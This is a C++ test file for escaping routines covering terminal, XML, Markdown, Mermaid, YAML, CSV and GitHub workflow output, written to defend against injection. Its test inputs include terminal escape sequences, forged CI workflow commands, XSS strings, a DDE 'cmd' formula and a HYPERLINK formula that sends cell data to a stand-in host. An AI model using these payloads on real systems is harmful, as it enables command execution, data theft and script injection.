// The escapers of escape/escape.h, one test case per output language, with the examples of
// issue 14 (each reproduced on the build before the change).
#include <doctest/doctest.h>

#include <string>

#include "escape/escape.h"
#include "output/table.h"
#include "util/utf8.h"

using namespace collab;

namespace {

const std::string fffd = "\xEF\xBF\xBD";

bool has_byte_below_0x20(const std::string& s, bool allow_tab = false) {
    for (unsigned char c : s) {
        if (c < 0x20 && !(allow_tab && c == '\t')) return true;
        if (c == 0x7F) return true;
    }
    return false;
}

}  // namespace

TEST_CASE("terminal text: ESC, BEL, OSC, C1, bidi controls and line breaks are shown as U+FFFD") {
    CHECK(terminal_text("x\x1b[2Jy") == "x" + fffd + "[2Jy");
    CHECK(terminal_text("Store \x1b]0;PWNED\x07") == "Store " + fffd + "]0;PWNED" + fffd);
    CHECK(terminal_text("a\xC2\x9B"
                        "31mb") == "a" + fffd + "31mb");           // C1 CSI
    CHECK(terminal_text("abc\u202Edef") == "abc" + fffd + "def");  // RIGHT-TO-LEFT OVERRIDE
    for (const char* bidi : {"\u061C", "\u200E", "\u200F", "\u202A", "\u202B", "\u202C", "\u202D",
                             "\u2066", "\u2067", "\u2068", "\u2069"}) {
        CHECK(terminal_text(bidi) == fffd);
    }
    // A line break in a file name cannot start a line, so no `::warning` workflow command.
    CHECK(terminal_text("x\n::warning file=a::b") == "x" + fffd + "::warning file=a::b");
    // Text that would start a log line with "::" (after any white space) gets a full-width colon.
    CHECK(terminal_text("::error::forged") == "\uFF1A:error::forged");
    CHECK(terminal_text(" \t\u3000::warning::x") == " \t\u3000\uFF1A:warning::x");
    CHECK(terminal_text("a::b") == "a::b");
    CHECK(terminal_lines("-name: a\x1b[2Jb\r\n+name: x\n") ==
          "-name: a" + fffd + "[2Jb" + fffd + "\n+name: x\n");
    CHECK(terminal_text("tab\tand ünïcödé 中文") == "tab\tand ünïcödé 中文");
    CHECK(terminal_text("\xFF") == fffd);
}

TEST_CASE("XML: U+FFFE and U+FFFF (outside the Char production) become U+FFFD") {
    CHECK(escape_xml("a\uFFFEb\uFFFFc") == "a" + fffd + "b" + fffd + "c");
    CHECK(escape_xml("a<b & 'c' \"d\">") == "a&lt;b &amp; &apos;c&apos; &quot;d&quot;&gt;");
    CHECK(escape_xml("line\nbreak") == "line\nbreak");
    CHECK(escape_xml("\xED\xA0\x80") == fffd + fffd + fffd);  // a lone surrogate in UTF-8
}

TEST_CASE("Markdown: no emphasis, link, image, autolink, mention or HTML from record text") {
    CHECK(markdown_text("**APPROVED** by @octocat, see [docs](https://evil.example)") ==
          "\\*\\*APPROVED\\*\\* by @&#8203;octocat, see \\[docs\\](https\\://evil.example)");
    CHECK(markdown_text("![x](javascript:alert(1))") == "\\!\\[x\\](javascript:alert(1))");
    CHECK(markdown_text("<img src=x onerror=alert(1)>") == "&lt;img src=x onerror=alert(1)&gt;");
    CHECK(markdown_text("www.evil.example") == "www\\.evil.example");
    CHECK(markdown_text("mail a@b.org") == "mail a@&#8203;b.org");
    CHECK(markdown_text("fixes #35") == "fixes #&#8203;35");
    CHECK(markdown_text("# heading") == "\\# heading");
    CHECK(markdown_text("- item") == "\\- item");
    CHECK(markdown_text("1. item") == "1\\. item");
    CHECK(markdown_text("_a_ ~b~ `c`") == "\\_a\\_ \\~b\\~ \\`c\\`");
    CHECK(markdown_text("two\nlines") == "two lines");
    CHECK(markdown_text("Zhejiang University 2024-01-15") == "Zhejiang University 2024-01-15");
    CHECK(markdown_cell("a|b\nc") == "a\\|b<br>c");
    CHECK(markdown_code("a`b\nc") == "`aˋb c`");
}

TEST_CASE("Mermaid: entity codes for everything a label could read as syntax") {
    CHECK(mermaid_label("Lab #35; <b>bold</b>") == "\"Lab #35;35; #lt;b#gt;bold#lt;/b#gt;\"");
    CHECK(mermaid_label("R&D \"Alliance\"") == "\"R#amp;D #quot;Alliance#quot;\"");
    CHECK(mermaid_label("%%{init: {}}%%") == "\"#37;#37;{init: {}}#37;#37;\"");
    CHECK(mermaid_label("`**md**` _em_") == "\"#96;#42;#42;md#42;#42;#96; #95;em#95;\"");
    CHECK(mermaid_label("a\nb") == "\"a b\"");
}

TEST_CASE("YAML: every scalar a YAML 1.1 or 1.2 reader could type is quoted") {
    for (const char* s : {"3:1",
                          "12:30:00",
                          "1:1",
                          "10:30",
                          "190:20:30.15",
                          "2025-01-01",
                          "2001-12-14t21:59:43.10-05:00",
                          "0x1F",
                          "0o17",
                          "017",
                          "0b101",
                          "1_000",
                          "+12",
                          "-1",
                          ".5",
                          "1.",
                          "1e3",
                          "6.8523015e+5",
                          ".inf",
                          "-.INF",
                          ".NaN",
                          "NO",
                          "no",
                          "y",
                          "N",
                          "on",
                          "OFF",
                          "true",
                          "False",
                          "~",
                          "null",
                          "NULL",
                          "",
                          "<<",
                          "="}) {
        CAPTURE(s);
        CHECK(yaml_implicit_non_string(s));
        CHECK_FALSE(yaml_plain_safe(s));
        CHECK(yaml_scalar(s) == yaml_quoted(s));
    }
    for (const char* s : {"Zhejiang University", "3M", "HKUST", "no way", "v1.2.3", "2025-13"}) {
        CAPTURE(s);
        CHECK_FALSE(yaml_implicit_non_string(s));
    }
    for (const char* s :
         {"-x", "- x",  "?x", ":x", "a: b", "a #b", "a:",  " a",    "a ",  "@me", "`x`",
          "%x", "!tag", "&a", "*a", "|",    ">",    "'q'", "\"q\"", "[a]", "{a}", "#c"}) {
        CAPTURE(s);
        CHECK_FALSE(yaml_plain_safe(s));
    }
    CHECK(yaml_quoted("a\"b\\c\n\t\x1b\u202E\u2028\xC2\x85\uFEFF\uFFFE") ==
          "\"a\\\"b\\\\c\\n\\t\\x1B\\u202E\\u2028\\u0085\\uFEFF\\uFFFE\"");
    CHECK(yaml_quoted("\xFF") == "\"" + fffd + "\"");
    CHECK(yaml_scalar("Zhejiang University") == "Zhejiang University");
    // Long values are classified in linear time (RE2, no recursion): a million digits are an
    // int to YAML, and a number (not a formula) to the CSV guard, however long.
    const std::string digits(1'000'000, '7');
    CHECK(yaml_implicit_non_string(digits));
    CHECK_FALSE(looks_like_formula("-" + digits));
    CHECK(looks_like_formula("=" + digits));
    CHECK_FALSE(yaml_implicit_non_string(std::string(1'000'000, 'x')));
}

TEST_CASE("CSV formula guard: OWASP's leading characters, numbers stay numbers") {
    for (const char* s :
         {"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "+1+1", "-1+1", "@SUM(A1)", "\tx",
          "\rx", "  =1", "\uFF1D1+1", "\uFF20SUM(1)", "-cmd|' /C calc'!A0"}) {
        CAPTURE(s);
        CHECK(looks_like_formula(s));
        CHECK(formula_guard(s) == std::string("'") + s);
    }
    for (const char* s : {"-12.5", "+3", "-1e5", "Zhejiang", "", "a=b", "1-2"}) {
        CAPTURE(s);
        CHECK_FALSE(looks_like_formula(s));
        CHECK(formula_guard(s) == s);
    }
    const Table t{{"name"}, {{"=1+1"}, {"-5"}, {"ok\x1b[2J"}}};
    CHECK(render_csv(t) == "name\r\n'=1+1\r\n-5\r\nok" + fffd + "[2J\r\n");
    CHECK(render_csv(t, false) == "name\r\n=1+1\r\n-5\r\nok" + fffd + "[2J\r\n");
    CHECK(render_tsv(t) == "name\n'=1+1\n-5\nok" + fffd + "[2J\n");
    const std::string tsv = render_tsv(Table{{"a"}, {{"x\x07y\x1b]0;t\x07\tz"}}});
    CHECK(tsv == "a\nx" + fffd + "y" + fffd + "]0;t" + fffd + " z\n");
    CHECK_FALSE(has_byte_below_0x20(tsv.substr(0, tsv.size() - 1).substr(2)));
}

TEST_CASE("GitHub workflow commands: data and property escaping of actions/toolkit") {
    CHECK(github_command_data("50%\r\n::error::x") == "50%25%0D%0A::error::x");
    CHECK(github_command_property("a:b,c%\n") == "a%3Ab%2Cc%25%0A");
}
